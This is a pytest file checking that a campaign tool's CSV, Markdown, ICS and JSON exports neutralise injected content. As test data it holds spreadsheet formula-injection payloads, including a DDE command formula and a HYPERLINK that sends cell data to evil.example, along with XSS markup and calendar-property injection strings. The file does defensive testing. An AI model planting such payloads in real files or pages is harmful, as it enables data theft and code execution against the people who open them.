"""A signed-up user plants formulas, markup and line breaks in a campaign's text and hopes a colleague opens an
export: every CSV cell a spreadsheet would run is written as text, the Markdown carries no raw HTML, and the
ICS calendar keeps each post one event with no property of the attacker's."""
import csv
import io
import json
import re

import pytest
from icalendar import Calendar
from markdown_it import MarkdownIt

from gtm.services import csvsafe, results

from tests.kit.exports import changed, import_


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="javascript:alert(1)">x</a>',
          "<iframe src=//evil.example>"]


def hostile(doc):
    """Formulas in every text a CSV carries, markup in every text the Markdown carries."""
    posts = [post for phase in doc["phases"] for post in phase["posts"]]
    for n, post in enumerate(posts):
        formula = FORMULAS[n % len(FORMULAS)]
        post["title"] = formula
        post["brief"] = MARKUP[n % len(MARKUP)] + " & more"
        for variant in post["variants"].values():
            variant.update(headline=formula, body=f"{formula}\n\n{MARKUP[0]}", call_to_action=MARKUP[1],
                           hashtags=["<b>bold</b>"])
    doc["phases"][0]["name"] = "<i>Phase</i> one"
    doc["phases"][0]["goal"] = "<style>body{display:none}</style>"
    doc["campaign"]["name"] = "Bloom <script>x</script>"
    doc["campaign"]["product"] = "<img src=x onerror=alert(2)> & co"


@pytest.fixture
def planted(api):
    status, body = import_(api, changed(hostile))
    assert status == 201, body
    return int(body["id"])


def export(api, campaign_id: int, fmt: str) -> str:
    response = api.client.get(f"/api/campaigns/{campaign_id}/export?format={fmt}", headers=api.headers)
    assert response.status_code == 200
    return response.get_data(as_text=True)


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("", ""), (None, ""), ("a=b", "a=b"), ("'=x", "'=x"), ("#tag", "#tag"),
])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(value, written):
    assert csvsafe.text_cell(value) == written
    if value:
        assert csvsafe.read_text_cell(written) == (value if value != "'=x" else "=x")


def test_the_calendar_csv_writes_no_formula(api, planted):
    rows = list(csv.reader(io.StringIO(export(api, planted, "csv"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 13 and cells
    assert not [cell for cell in cells if cell.startswith(csvsafe.FORMULA_STARTS)]
    titles = {row[2] for row in rows[1:]}
    # Titles are saved trimmed, so a leading tab or carriage return is gone and the formula behind it is quoted.
    assert titles == {"'" + formula.strip() for formula in FORMULAS}
    assert all(row[0][:4].isdigit() and row[8] == "no" for row in rows[1:])


def test_the_metrics_template_writes_keys_as_text_and_reads_them_back(api, user):
    def formula_keys(doc):
        hostile(doc)
        for phase in doc["phases"]:
            for i, post in enumerate(phase["posts"]):
                post["key"] = f"=k{phase['number']}-{i}"
        doc["edges"] = [{"from": f"=k{n}-{i}", "to": f"=k{n + 1}-{i}"} for n in (1, 2) for i in (0, 1)]
    status, body = import_(api, changed(formula_keys))
    assert status == 201, body
    name, text = results.csv_template(user.workspace_id, int(body["id"]))
    rows = list(csv.reader(io.StringIO(text)))
    assert [row[0] for row in rows[1:3]] == ["'=k1-0", "'=k1-0"]
    assert not [row[0] for row in rows[1:] if row[0].startswith(csvsafe.FORMULA_STARTS)]
    # The titles beside the keys are written safe too; the numbers are left for the person to fill in.
    assert not [row[1] for row in rows[1:] if row[1].startswith(csvsafe.FORMULA_STARTS)]
    assert rows[1][4:] == ["", "", "", ""]
    filled = "\n".join(line[:-4] + ",10,1,0,0" if line.endswith(",,,,") else line for line in text.splitlines())
    preview = results.preview_csv(user.workspace_id, int(body["id"]), filled)
    assert preview.ok and {row.post.key for row in preview.rows} == {f"=k{n}-{i}" for n in (1, 2, 3) for i in (0, 1)}


def test_the_markdown_carries_no_raw_html(api, planted):
    text = export(api, planted, "md")
    for tag in ("<script", "<img", "<iframe", "<a ", "<b>", "<i>", "<style"):
        assert tag not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text and "&amp; more" in text
    assert text.startswith("# Bloom &lt;script&gt;x&lt;/script&gt;: strategy version 1\n")
    assert "## Phase 1: &lt;i&gt;Phase&lt;/i&gt; one" in text
    assert text.count("\n### ") == 6 and text.count("\n#### Variant ") == 12
    # Rendered as a viewer that lets raw HTML through would: the export itself must carry none.
    html = MarkdownIt("commonmark", {"html": True}).render(text)
    for tag in ("<script", "<img", "<iframe", "<a ", "<b>", "<i>", "<style"):
        assert tag not in html
    assert "<h1>" in html and html.count("<h3>") == 6


def test_the_markdown_links_only_to_the_web_or_mail(api):
    def links(doc):
        posts = [post for phase in doc["phases"] for post in phase["posts"]]
        posts[0]["brief"] = "[Pricing](javascript:alert(1)) and [docs]( JavaScript :x) and [img](data:text/html,x)"
        posts[1]["brief"] = "[ref]: vbscript:msgbox(1)\n\nSee [ref] or [our site](https://example.com/a)"
        posts[2]["brief"] = "Write to [us](mailto:hello@example.com)"

    status, body = import_(api, changed(links))
    assert status == 201, body
    html = MarkdownIt("commonmark", {"html": True}).render(export(api, int(body["id"]), "md"))
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert sorted(hrefs) == ["https://example.com/a", "mailto:hello@example.com"], hrefs
    assert "[Pricing](javascript:alert(1))" in html, "the text stays readable"


def test_the_ics_keeps_each_post_one_event_whatever_its_text(api):
    def line_breaks(doc):
        posts = [post for phase in doc["phases"] for post in phase["posts"]]
        posts[0]["title"] = "Launch\r\nATTENDEE:mailto:evil@example.com"
        posts[1]["title"] = "Launch\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected"
        posts[2]["brief"] = "Brief\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:forged@gtm\r\nSUMMARY:injected"
        posts[3]["variants"]["A"]["headline"] = "Head\r\nORGANIZER:mailto:evil@example.com"
        doc["campaign"]["name"] = "Bloom\r\nX-WR-CALDESC:forged"
    status, body = import_(api, changed(line_breaks))
    assert status == 201, body
    raw = export(api, int(body["id"]), "ics")
    calendar = Calendar.from_ical(raw)
    events = calendar.walk("VEVENT")
    assert len(events) == 6
    for event in events:
        assert "ATTENDEE" not in event and "ORGANIZER" not in event
        assert str(event["UID"]).startswith("post-") and "injected" != str(event["SUMMARY"])
    assert "X-WR-CALDESC" not in calendar
    lines = raw.split("\r\n")
    assert not [line for line in lines if line.startswith(("ATTENDEE", "ORGANIZER", "SUMMARY:injected", "UID:forged"))]


def test_the_json_export_gives_the_text_back_as_data(api, planted):
    doc = json.loads(export(api, planted, "json"))
    titles = [post["title"] for phase in doc["phases"] for post in phase["posts"]]
    assert titles == [FORMULAS[n % len(FORMULAS)].strip() for n in range(6)]
    assert import_(api, doc)[0] == 201
